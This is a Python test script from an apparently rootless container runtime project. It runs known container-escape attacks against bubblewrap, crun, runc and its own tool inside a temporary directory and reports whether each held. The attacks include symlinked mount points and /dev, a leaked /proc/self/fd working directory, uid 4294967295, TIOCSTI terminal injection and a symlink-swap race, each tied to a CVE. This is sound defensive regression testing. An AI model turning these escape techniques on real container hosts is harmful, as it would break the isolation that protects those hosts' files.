# SPDX-License-Identifier: MIT
"""Some of the attacks of this suite against other programs of the kind, as they are installed here, for comparison:

    CTR_CMD=build/tools/ctr/ctr python3 tests/escape/peers.py [ATTACK...]

For an ordinary user only; everything happens in a temporary directory. Prints what became of each, by the state of the host:
held, BROKEN with what was seen, or why it could not be tried. docs/security.md has what it printed."""
import json
import os
import pathlib
import pty
import shutil
import subprocess
import sys
import tempfile

HERE = pathlib.Path(__file__).resolve().parent
SECRET = "secret of the host"
ROUNDS = 100
sys.path[:0] = [str(HERE.parent / "run")]

import watch  # noqa: E402  needs the path


class World:
    """A root of busybox, a victim and a volume, in a temporary directory."""

    def __init__(self, directory):
        self.top = pathlib.Path(directory)
        self.root, self.victim, self.source = self.top / "root", self.top / "victim", self.top / "source"
        for path in (*(self.root / name for name in ("bin", "dev", "proc", "sys", "tmp", "etc", "data")), self.victim / "deep", self.source):
            path.mkdir(parents=True)
        shutil.copyfile(shutil.which("busybox"), self.root / "bin/busybox")
        (self.root / "bin/busybox").chmod(0o755)
        for name in ("sh", "cat", "id", "true", "sleep"):
            (self.root / "bin" / name).symlink_to("busybox")
        for name in ("secret", "deep/secret", "ptmx", "console"):
            (self.victim / name).write_text(SECRET)
        (self.source / "mark").write_text("mine")
        (self.root / "etc/passwd").write_text("root:x:0:0::/:/bin/sh\n")
        self.before = watch.tree(self.victim)

    def harm(self):
        changed = watch.changes(self.before, watch.tree(self.victim))
        return f"changed on the host: {', '.join(sorted(name for name in changed if name != '.'))}" if changed else ""


class Ran:
    def __init__(self, out, code, hung=False):
        self.out, self.code, self.hung = out, code, hung


def execute(words, cwd=None, terminal=False, timeout=10):
    if terminal:
        master, slave = pty.openpty()
        streams = {"stdin": slave, "stdout": slave, "stderr": slave}
        words = ["setsid", "--ctty", "--wait", *words]
    else:
        streams = {"stdin": subprocess.DEVNULL, "stdout": subprocess.PIPE, "stderr": subprocess.STDOUT}
    process = subprocess.Popen([str(word) for word in words], cwd=cwd, **streams)
    try:
        out, _ = process.communicate(timeout=timeout)
        hung = False
    except subprocess.TimeoutExpired:
        watch.kill_leftovers()
        out, _ = process.communicate()
        hung = True
    if terminal:
        os.close(slave)
        os.set_blocking(master, False)
        out = b""
        try:
            while part := os.read(master, 65536):
                out += part
        except OSError:
            pass
        os.close(master)
    watch.reap_orphans()
    return Ran((out or b"").decode(errors="replace"), process.returncode, hung)


class Oci:
    """crun and runc: a bundle with the configuration that they make themselves for a rootless container."""

    def __init__(self, name):
        self.name, self.count = name, 0

    def run(self, world, command, mounts=(), terminal=False, uid=0, cwd="/", dev=True, where=None, timeout=10):
        bundle = world.top / f"bundle-{self.name}"
        bundle.mkdir(exist_ok=True)
        (bundle / "config.json").unlink(missing_ok=True)
        subprocess.run([self.name, "spec", "--rootless"], cwd=bundle, check=True, capture_output=True)
        config = json.loads((bundle / "config.json").read_text())
        config["root"] = {"path": str(world.root), "readonly": False}
        config["process"].update({"args": list(command), "terminal": terminal, "cwd": cwd, "user": {"uid": uid, "gid": 0}})
        if not dev:
            config["mounts"] = [mount for mount in config["mounts"] if not mount["destination"].startswith("/dev")]
        config["mounts"] += [{"destination": target, "type": "bind", "source": str(source), "options": ["rbind", "rw"]} for source, target in mounts]
        for kind, outside in (("uidMappings", os.getuid()), ("gidMappings", os.getgid())):
            config["linux"][kind] = [{"containerID": 0, "hostID": 0 if self.name == "crun" else outside, "size": 1}]
        if not [one for one in config["linux"]["namespaces"] if one["type"] == "user"]:
            config["linux"]["namespaces"].append({"type": "user"})
        (bundle / "config.json").write_text(json.dumps(config))
        self.count += 1
        words = [self.name, "--root", world.top / f"state-{self.name}", "run", "--bundle", bundle, f"c{self.count}"]
        if self.name == "crun":  # refuses a machine with both kinds of control groups: an outer namespace hides them
            words.insert(1, "--cgroup-manager=disabled")
            words = ["unshare", "-Urm", "sh", "-c", 'mount -t tmpfs none /sys/fs/cgroup; exec "$@"', "sh", *words]
        return execute(words, cwd=where, terminal=terminal, timeout=timeout)


class Bwrap:
    name = "bwrap"

    def run(self, world, command, mounts=(), terminal=False, uid=0, cwd="/", dev=True, where=None, extra=(), timeout=10):
        words = ["bwrap", "--unshare-all", "--uid", str(uid), "--bind", world.root, "/", "--proc", "/proc", *(["--dev", "/dev"] if dev else []), "--chdir", cwd]
        for source, target in mounts:
            words += ["--bind", source, target]
        return execute([*words, *extra, *command], cwd=where, terminal=terminal, timeout=timeout)


class Ctr:
    name = "ctr"

    def run(self, world, command, mounts=(), terminal=False, uid=0, cwd="/", dev=True, where=None, extra=(), timeout=10):
        words = [os.environ["CTR_CMD"], "run", "-q", "--map", "single", "--rootfs", world.root, "-w", cwd, "--user", str(uid), *extra]
        for source, target in mounts:
            words += ["-v", f"{source}:{target}"]
        return execute([*words, "--", *command], cwd=where, terminal=terminal, timeout=timeout)


def nothing_tried(tool, world):
    """The world works at all: an ordinary command says what it should."""
    ran = tool.run(world, ["/bin/sh", "-c", "echo works"])
    return "" if "works" in ran.out else f"cannot be tried here: {ran.out.strip()[-100:]}"


def target_link(tool, world):
    """A mount point is a link to the host (lxc CVE-2015-1335)."""
    (world.root / "gate").symlink_to(world.victim)
    for target in ("/gate/new", "/gate/deep/x"):
        tool.run(world, ["/bin/true"], mounts=[(world.source, target)])
    return world.harm()


def dev_link(tool, world):
    """/dev of the image is a link to the host (runc CVE-2026-41579, crun CVE-2026-47766)."""
    (world.root / "dev").rmdir()
    (world.root / "dev").symlink_to(world.victim)
    for dev in (True, False):
        tool.run(world, ["/bin/true"], dev=dev)
    return world.harm()


def console_link(tool, world):
    """/dev/console is a link, and a terminal is wanted (crun CVE-2026-88264)."""
    (world.root / "dev/console").symlink_to(world.victim / "created")
    for dev in (False, True):
        tool.run(world, ["/bin/true"], dev=dev, terminal=True)
    return world.harm()


def fifo_accounts(tool, world):
    """/etc/passwd is a FIFO (containers/storage CVE-2024-9676)."""
    (world.root / "etc/passwd").unlink()
    os.mkfifo(world.root / "etc/passwd")
    return "hangs" if tool.run(world, ["/bin/true"], timeout=5).hung else ""


def user_minus_one(tool, world):
    """The user 4294967295 (containerd CVE-2024-40635, crun CVE-2026-30892)."""
    ran = tool.run(world, ["/bin/sh", "-c", "echo user $(id -u)"], uid=4294967295)
    return "the command is user 0" if "user 0" in ran.out else ""


def staging(tool, world):
    """A parent is a link to where the host's root is put meanwhile (bubblewrap CVE-2026-87766)."""
    for number, name in enumerate(("oldroot", "..", "proc/1/root", ".pivot_root")):
        (world.root / f"gate{number}").symlink_to(f"/{name}{world.victim}")
        tool.run(world, ["/bin/true"], mounts=[(world.source, f"/gate{number}/new{number}")])
        if tool.name == "bwrap":
            tool.run(world, ["/bin/true"], extra=["--dir", f"/gate{number}/dir{number}"])
            tool.run(world, ["/bin/true"], extra=["--symlink", "x", f"/gate{number}/link{number}"])
    return world.harm()


def zero_byte(tool, world):
    """An argument with a zero byte in it (flatpak CVE-2021-43860)."""
    if tool.name in ("bwrap", "ctr"):
        return "cannot be tried here: it takes no JSON, and a command line has no zero bytes"
    ran = tool.run(world, ["/bin/sh\0/x", "-c", "echo ran"])
    return "what stands behind it is dropped, and the command runs" if "ran" in ran.out else ""


def working_directory(tool, world):
    """The working directory is a descriptor that was left open (runc CVE-2024-21626)."""
    for number in range(3, 12):
        if SECRET in tool.run(world, ["/bin/sh", "-c", "cat secret ../victim/secret"], cwd=f"/proc/self/fd/{number}", where=world.victim).out:
            return f"/proc/self/fd/{number} is on the host"
    return ""


def masks(tool, world):
    """What tells of the host's interrupts is shown (moby GHSA-6fw5-f8r9-fgfm)."""
    return "/proc/interrupts is shown" if "CPU0" in tool.run(world, ["/bin/cat", "/proc/interrupts"]).out else ""


def typed_input(tool, world):
    """TIOCSTI types into the caller's terminal (bubblewrap CVE-2017-5226)."""
    subprocess.run(["cc", "-static", "-o", world.root / "bin/terminal", HERE.parent / "run/probe/terminal.c"], check=True)
    ran = tool.run(world, ["/bin/terminal", "inject"], terminal=True) if not isinstance(tool, Oci) else None
    if ran is None:
        return "cannot be tried here: its terminal is always one of its own"
    return "typed into the caller's terminal" if "injected" in ran.out else ""


def swapped_parent(tool, world):
    """The parents of a mount point are made while one is swapped for a link (runc CVE-2024-45310)."""
    (world.root / "grow").mkdir()
    (world.root / "spare").symlink_to(world.victim)
    program = world.top / "swap"
    subprocess.run(["cc", "-O1", "-o", program, HERE / "probe/swap.c"], check=True)
    with subprocess.Popen([program, world.root / "grow", world.root / "spare"]) as swapper:
        try:
            for number in range(ROUNDS):
                tool.run(world, ["/bin/true"], mounts=[(world.source, f"/grow/made{number}/below/x")])
                if world.harm():
                    return f"{world.harm()} (start {number + 1})"
        finally:
            swapper.kill()
    return world.harm()


ATTACKS = [nothing_tried, target_link, dev_link, console_link, fifo_accounts, user_minus_one, staging, zero_byte, working_directory, masks, typed_input,
           swapped_parent]


def attempt(tool, attack):
    with tempfile.TemporaryDirectory(prefix="ctr-peers-", ignore_cleanup_errors=True) as directory:
        if tool.name != "ctr" and not shutil.which(tool.name, path=f"{os.environ['PATH']}:/usr/sbin"):
            return "not installed"
        found = attack(tool, World(directory))
        if found.startswith("cannot"):
            return found
        return f"BROKEN: {found}" if found else "held"


def main():
    if os.getuid() == 0:
        sys.exit("this is for an ordinary user")
    watch.adopt_orphans()
    tools = [Bwrap(), Oci("crun"), Oci("runc"), *([Ctr()] if "CTR_CMD" in os.environ else [])]
    wanted = [attack for attack in ATTACKS if len(sys.argv) < 2 or attack.__name__ in sys.argv[1:]]
    for attack in wanted:
        print(f"{attack.__name__}: {attack.__doc__}")
        for tool in tools:
            print(f"  {tool.name:<6} {attempt(tool, attack)}", flush=True)
            watch.kill_leftovers()
            watch.reap_orphans()


if __name__ == "__main__":
    main()
